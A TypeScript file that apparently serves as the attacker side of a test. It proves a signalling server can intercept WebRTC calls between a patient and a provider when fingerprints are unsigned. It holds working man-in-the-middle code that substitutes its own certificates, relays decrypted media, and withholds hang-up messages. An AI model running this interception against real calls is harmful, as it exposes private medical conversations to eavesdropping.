/**
 * The attack signed fingerprints are for: a signalling server that puts itself between two callers.
 *
 * Two connections, one towards each victim. Signed hellos pass through untouched (they cannot be made); every description is
 * answered with a certificate of our own, and what one victim sends is forwarded to the other, decrypted here.
 */
interface Said {
  kind: string;
  sid: string;
  to: string;
  description?: RTCSessionDescriptionInit;
  candidate?: RTCIceCandidateInit | null;
}

class Side {
  readonly pc = new RTCPeerConnection({ iceServers: [], bundlePolicy: "max-bundle" });
  /** Session of the victim, and of the person we play to it. */
  victim = "";
  played = "";
  other!: Side;
  tapped = 0;

  constructor(
    readonly seat: string,
    readonly as: string,
  ) {
    this.pc.onicecandidate = ({ candidate }) => this.say({ kind: "candidate", candidate: candidate?.toJSON() ?? null });
    this.pc.ontrack = ({ track, streams }) => {
      this.tapped += 1;
      void this.other.offer(track, streams[0] ?? new MediaStream([track]));
    };
  }

  say(frame: object): void {
    send(this.as, this.seat, { ...frame, sid: this.played, to: this.victim });
  }

  async offer(track: MediaStreamTrack, stream: MediaStream): Promise<void> {
    this.pc.addTrack(track, stream);
    await this.pc.setLocalDescription();
    this.say({ kind: "description", description: this.pc.localDescription });
  }

  async hear(frame: Said): Promise<void> {
    this.victim = frame.sid;
    this.played = frame.to;
    if (frame.kind === "candidate") await this.pc.addIceCandidate(frame.candidate ?? undefined);
    if (frame.kind !== "description" || !frame.description) return;
    await this.pc.setRemoteDescription(frame.description);
    if (frame.description.type !== "offer") return;
    await this.pc.setLocalDescription();
    this.say({ kind: "description", description: this.pc.localDescription });
  }
}

const socket = new WebSocket(`ws://${location.host}/relay?seat=mallory`);

function send(as: string, to: string, d: object): void {
  socket.send(JSON.stringify({ as, to, d }));
}

const towards = { patient: new Side("patient", "provider"), provider: new Side("provider", "patient") };
towards.patient.other = towards.provider;
towards.provider.other = towards.patient;

let queue = Promise.resolve();
socket.onmessage = (message) => {
  const { from, d } = JSON.parse(String(message.data)) as { from: "patient" | "provider"; d: Said };
  const mine = d.kind === "description" || d.kind === "candidate";
  // "bye" is kept back: each victim has to find out by itself.
  if (!mine && d.kind !== "bye") send(from, from === "patient" ? "provider" : "patient", d);
  if (mine) queue = queue.then(() => towards[from].hear(d)).catch((error: unknown) => errors.push(String(error)));
};

const errors: string[] = [];

Object.assign(window, {
  mallory: () => ({
    tapped: towards.patient.tapped + towards.provider.tapped,
    connected: [towards.patient.pc.connectionState, towards.provider.pc.connectionState],
    errors,
  }),
});
